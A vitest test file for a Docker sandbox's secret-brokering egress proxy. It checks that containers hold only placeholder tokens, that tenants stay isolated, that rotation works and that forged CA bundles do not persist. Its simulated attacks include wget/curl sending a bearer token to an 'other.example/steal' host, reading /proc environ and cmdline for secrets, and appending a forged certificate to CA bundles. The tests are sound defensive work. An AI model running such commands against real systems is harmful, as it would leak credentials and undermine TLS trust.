// DockerSandbox's `secrets`, and a Workspace whose per-tenant DockerSandboxes each have their
// own: the container sees placeholders, and the egress proxy on the host puts each sandbox's
// own real values in its requests to the bound hosts. The test image has busybox only, whose
// wget sends an https URL to the proxy as a plain request for the proxy to make over TLS; the
// host's curl, bound in, opens a tunnel and checks the sandbox's CA with the bundle copied in.
// Judged by what the servers on the host's loopback received (https-fixture.mjs).
import { RequestContext } from '@mastra/core/request-context'
import { afterAll, expect, it } from 'vitest'
import { DockerSandbox, SandboxOptionError, Workspace } from '../lib/index.js'
import { describeDocker, dockerEngines, engineJson, engineRequest, removeLabelled } from './docker-engine.mjs'
import { on } from './docker-sandboxes.mjs'
import { boundTo, brokerOptions, headerValues, recordsWith, tokenLike, useBrokerServers } from './https-fixture.mjs'

const RUN = `docker-secrets-${process.pid}`
const servers = useBrokerServers(Boolean(dockerEngines))
const { received, connections, origin, accept, reset } = servers

/** busybox wget of `url` with the placeholder of `variable` in `Authorization`. */
const wget = (url, variable = 'GITHUB_TOKEN') => `wget -q -O - --header "Authorization: Bearer $${variable}" "${url}"`

/**
 * The host's curl, run from the host's /usr bound read-only at /host/usr: a client that opens
 * a tunnel with CONNECT and verifies the server against the bundle `CURL_CA_BUNDLE` names, so
 * what it fetches shows that the container trusts its own sandbox's CA.
 */
const HOST_USR = { Type: 'bind', Source: '/usr', Target: '/host/usr', ReadOnly: true }
const curl = (url, variable = 'GITHUB_TOKEN', flags = '') =>
  `/host/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2 --library-path /host/usr/lib/x86_64-linux-gnu /host/usr/bin/curl -sS ${flags} -H "Authorization: Bearer $${variable}" "${url}"`

/** The CA bundle's places in a container, and a command that tries to add a CA of its own to each. */
const BUNDLES = '/.native-workspace-ca-bundle.pem /etc/ssl/certs/ca-certificates.crt'
const FORGE = `for f in ${BUNDLES}; do chmod 644 $f && printf '%s\\n' '-----BEGIN CERTIFICATE-----' FORGED '-----END CERTIFICATE-----' >> $f; done; true`

it('refuses a secret bound to a domain allowedDomains does not allow, naming both, and never the value', () => {
  const value = tokenLike('ghp_')
  const make = () =>
    new DockerSandbox({ dockerOptions: { socketPath: '/nonexistent/docker.sock' }, allowedDomains: ['github.com'], secrets: { GITHUB_TOKEN: { value, domains: ['api.github.com'] } } })
  expect(make).toThrow(SandboxOptionError)
  expect(make).toThrow(/secrets.*GITHUB_TOKEN.*api\.github\.com.*allowedDomains|allowedDomains.*api\.github\.com.*GITHUB_TOKEN/)
  expect(make).toThrow(expect.not.objectContaining({ message: expect.stringContaining(value) }))
})

// The CA bundle is copied into the container through the engine at each start, so the same
// holds on the local engine (unix socket) and the remote one (TCP).
for (const which of ['local', 'remote']) describeDocker(`DockerSandbox secrets on the ${which} engine`, () => {
  const { engine, sandbox, containerOf } = on(which, RUN)
  const real = tokenLike('ghp_')
  const brokered = (secrets, options = {}) => sandbox({ ...brokerOptions(servers, secrets), ...options })
  const github = () => ({ GITHUB_TOKEN: boundTo(servers, real, 'api.github.com', 'github.com') })

  afterAll(async () => {
    await removeLabelled(engine, RUN)
  })

  it('the container sees a placeholder and the sandbox CA; busybox wget brings the real value to the bound host only', async () => {
    reset()
    accept(real)
    const box = brokered(github())
    try {
      const fake = (await box.executeCommand('printf %s "$GITHUB_TOKEN"')).stdout
      expect(fake).toHaveLength(real.length)
      expect(fake).not.toBe(real)
      const ca = await box.executeCommand('for v in SSL_CERT_FILE NODE_EXTRA_CA_CERTS REQUESTS_CA_BUNDLE CURL_CA_BUNDLE GIT_SSL_CAINFO; do eval "f=\\$$v"; grep -c "BEGIN CERTIFICATE" "$f"; done')
      expect(ca.stdout).toMatch(/^([1-9]\d*\n){5}$/)
      const r = await box.executeCommand(`${wget(`${origin('api.github.com')}/protected/wget`)}; ${wget(`${origin('other.example')}/steal`)}`)
      expect(r.stdout).toBe('authorized by api.github.com\n')
      expect(received.map((q) => [q.name, q.scheme, q.target, headerValues(q, 'authorization')])).toEqual([['api.github.com', 'https', '/protected/wget', [`Bearer ${real}`]]])
      // Nothing of it inside: the environment of every process of the container.
      const inside = await box.executeCommand('cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline | tr "\\0" "\\n"')
      expect(inside.stdout).toContain(`GITHUB_TOKEN=${fake}`)
      expect(inside.stdout).not.toContain(real)
    } finally {
      await box.destroy()
    }
  })

  it('plain HTTP with a placeholder gets a 403 naming the variable, to the bound host and another; neither server is reached', async () => {
    reset()
    accept(real)
    const box = brokered(github())
    try {
      const r = await box.executeCommand(`${wget(`${origin('api.github.com', 'http')}/plain`)}; ${wget(`${origin('other.example', 'http')}/plain`)}`)
      expect(r.stderr).toMatch(/^native-workspace: blocked by [\w.]*secrets: .*GITHUB_TOKEN/m)
      expect(r.stderr).not.toContain(real)
      expect(connections['api.github.com'].http + connections['other.example'].http).toBe(0)
      expect(recordsWith(received, real)).toEqual([])
    } finally {
      await box.destroy()
    }
  })

  it('setSecrets rotates the value on the running container', async () => {
    reset()
    const rotated = tokenLike('ghp_')
    accept(real, rotated)
    const box = brokered(github())
    try {
      expect((await box.executeCommand(wget(`${origin('api.github.com')}/protected/before`))).stdout).toBe('authorized by api.github.com\n')
      await box.setSecrets({ GITHUB_TOKEN: boundTo(servers, rotated, 'api.github.com') })
      expect((await box.executeCommand(wget(`${origin('api.github.com')}/protected/after`))).stdout).toBe('authorized by api.github.com\n')
      expect(received.map((q) => [q.target, headerValues(q, 'authorization')])).toEqual([
        ['/protected/before', [`Bearer ${real}`]],
        ['/protected/after', [`Bearer ${rotated}`]],
      ])
    } finally {
      await box.destroy()
    }
  })

  it("a Workspace's per-tenant sandboxes each bring their own value; one tenant's placeholder is worthless in another's", async () => {
    reset()
    const values = { alice: tokenLike('ghp_'), bob: tokenLike('ghp_') }
    accept(values.alice, values.bob)
    const made = []
    const workspace = new Workspace({
      sandbox: ({ requestContext }) => {
        const box = brokered({ GITHUB_TOKEN: boundTo(servers, values[requestContext.get('tenant')], 'api.github.com') })
        made.push(box)
        return box
      },
      sandboxCacheKey: ({ requestContext }) => requestContext.get('tenant'),
    })
    const tenant = (name) => {
      const context = new RequestContext()
      context.set('tenant', name)
      return workspace.resolveSandbox({ requestContext: context })
    }
    try {
      const [alice, bob] = [await tenant('alice'), await tenant('bob')]
      expect(alice).not.toBe(bob)
      const alicePlaceholder = (await alice.executeCommand('printf %s "$GITHUB_TOKEN"')).stdout
      expect((await alice.executeCommand(wget(`${origin('api.github.com')}/protected/alice`))).stdout).toBe('authorized by api.github.com\n')
      expect((await bob.executeCommand(wget(`${origin('api.github.com')}/protected/bob`))).stdout).toBe('authorized by api.github.com\n')
      // Bob with Alice's placeholder.
      await bob.executeCommand(`wget -q -O - --header "Authorization: Bearer ${alicePlaceholder}" "${origin('api.github.com')}/protected/stolen"`)
      expect(received.filter((q) => q.target !== '/protected/stolen').map((q) => [q.target, headerValues(q, 'authorization')])).toEqual([
        ['/protected/alice', [`Bearer ${values.alice}`]],
        ['/protected/bob', [`Bearer ${values.bob}`]],
      ])
      expect(recordsWith(received.filter((q) => q.target === '/protected/stolen'), values.alice)).toEqual([])
      expect(recordsWith(received.filter((q) => q.target === '/protected/stolen'), values.bob)).toEqual([])
    } finally {
      await Promise.allSettled(made.map((box) => box.destroy()))
    }
  })
  it('a value given as bytes and wiped at once is sent; a clone takes the value set last from the sandbox', async () => {
    reset()
    const rotated = tokenLike('ghp_')
    accept(real, rotated)
    const bytes = Buffer.from(real)
    const box = brokered({ GITHUB_TOKEN: { ...boundTo(servers, real, 'api.github.com'), value: bytes } })
    bytes.fill(0)
    const made = [box]
    try {
      expect((await box.executeCommand(wget(`${origin('api.github.com')}/protected/bytes`))).stdout).toBe('authorized by api.github.com\n')
      const again = Buffer.from(rotated)
      box.setSecrets({ GITHUB_TOKEN: { ...boundTo(servers, rotated, 'api.github.com'), value: again } })
      again.fill(0)
      const clone = box.clone()
      made.push(clone)
      expect((await clone.executeCommand(wget(`${origin('api.github.com')}/protected/clone`))).stdout).toBe('authorized by api.github.com\n')
      expect(received.map((q) => [q.target, headerValues(q, 'authorization')])).toEqual([
        ['/protected/bytes', [`Bearer ${real}`]],
        ['/protected/clone', [`Bearer ${rotated}`]],
      ])
    } finally {
      for (const sandbox of made) await sandbox.destroy()
    }
  })

  it('curl, through a tunnel and the bundle, brings the real value to the bound host; another allowed host gets the placeholder only', async () => {
    reset()
    accept(real)
    const box = brokered(github(), { mounts: [HOST_USR] })
    try {
      const fake = (await box.executeCommand('printf %s "$GITHUB_TOKEN"')).stdout
      // The tunnelled host's certificate is the test CA's, which the container does not trust.
      const r = await box.executeCommand(`${curl(`${origin('api.github.com')}/protected/curl`)}; ${curl(`${origin('other.example')}/steal`, 'GITHUB_TOKEN', '-k')}`)
      expect(r.stderr).toBe('')
      expect(r.stdout).toMatch(/^authorized by api\.github\.com\n/)
      expect(received.map((q) => [q.name, q.scheme, q.target, headerValues(q, 'authorization')])).toEqual([
        ['api.github.com', 'https', '/protected/curl', [`Bearer ${real}`]],
        ['other.example', 'https', '/steal', [`Bearer ${fake}`]],
      ])
    } finally {
      await box.destroy()
    }
  })

  it('after a request carried the real value, it is in no environment, command line or file of the container, nor in its inspection', async () => {
    reset()
    accept(real)
    const box = brokered(github())
    try {
      const fake = (await box.executeCommand('printf %s "$GITHUB_TOKEN" > /tmp/placeholder; cat /tmp/placeholder')).stdout
      expect((await box.executeCommand(wget(`${origin('api.github.com')}/protected/traces`))).stdout).toBe('authorized by api.github.com\n')
      expect(recordsWith(received, real)).toHaveLength(1)
      const inside = await box.executeCommand('cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline | tr "\\0" "\\n"')
      expect(inside.stdout).toContain(`GITHUB_TOKEN=${fake}`)
      expect(inside.stdout).not.toContain(real)
      const container = await containerOf(box)
      const inspected = JSON.stringify(await engineJson(engine, 'GET', `/containers/${container.Id}/json`))
      expect(inspected).toContain(container.Id)
      expect(inspected).not.toContain(real)
      // Every file of the container, as the engine exports them: the placeholder written
      // above is there, the real value is not.
      const exported = await engineRequest(engine, 'GET', `/containers/${container.Id}/export`, { timeoutMs: 120_000 })
      expect(exported.status).toBe(200)
      expect(exported.body.includes(fake)).toBe(true)
      expect(exported.body.includes(real)).toBe(false)
    } finally {
      await box.destroy()
    }
  })

  it("the bundle is root's and read-only: a command of another user cannot change it", async () => {
    const box = brokered(github(), { user: '65534:65534' })
    try {
      const r = await box.executeCommand(`id -u; stat -c '%u %g %a' ${BUNDLES}; printf NOTACERT >> /.native-workspace-ca-bundle.pem 2>/dev/null || echo refused; grep -c NOTACERT /.native-workspace-ca-bundle.pem`)
      expect(r.stdout).toBe('65534\n0 0 444\n0 0 444\nrefused\n0\n')
    } finally {
      await box.destroy()
    }
  })

  it('a command that rewrites the bundle changes no later sandbox: its restart, its container found again by another host, a clone of its checkpoint each trust their own CA only', async () => {
    reset()
    accept(real)
    const name = `${RUN}-${which}-forged`
    const options = { id: name, checkpointName: name, mounts: [HOST_USR] }
    const first = brokered(github(), options)
    const made = [first]
    const forgedIn = async (box) => (await box.executeCommand(`cat ${BUNDLES} | grep -c FORGED; true`)).stdout
    const fetched = async (box, target) => {
      const r = await box.executeCommand(curl(`${origin('api.github.com')}/protected/${target}`))
      return r.stdout + r.stderr
    }
    try {
      expect(await fetched(first, 'first')).toBe('authorized by api.github.com\n')
      await first.executeCommand(FORGE)
      // The container's root may change its own copies.
      expect(await forgedIn(first)).toBe('2\n')
      await first.snapshot()

      await first.stop()
      await first.start()
      expect(await forgedIn(first)).toBe('0\n')
      expect(await fetched(first, 'restarted')).toBe('authorized by api.github.com\n')

      await first.executeCommand(FORGE)
      // Another host process reaching the running container: a CA of its own.
      const again = brokered(github(), options)
      made.push(again)
      expect(await forgedIn(again)).toBe('0\n')
      expect(await fetched(again, 'found-again')).toBe('authorized by api.github.com\n')

      const clone = brokered(github(), { mounts: [HOST_USR], seedCheckpointName: name })
      made.push(clone)
      expect(await forgedIn(clone)).toBe('0\n')
      expect(await fetched(clone, 'clone')).toBe('authorized by api.github.com\n')

      expect(received.map((q) => [q.target, headerValues(q, 'authorization')])).toEqual(
        ['first', 'restarted', 'found-again', 'clone'].map((target) => [`/protected/${target}`, [`Bearer ${real}`]]),
      )
    } finally {
      for (const box of made.reverse()) await box.destroy().catch(() => {})
      await engineRequest(engine, 'DELETE', `/images/${encodeURIComponent(`native-workspace-checkpoint:${name}`)}?force=1`)
    }
  })
})
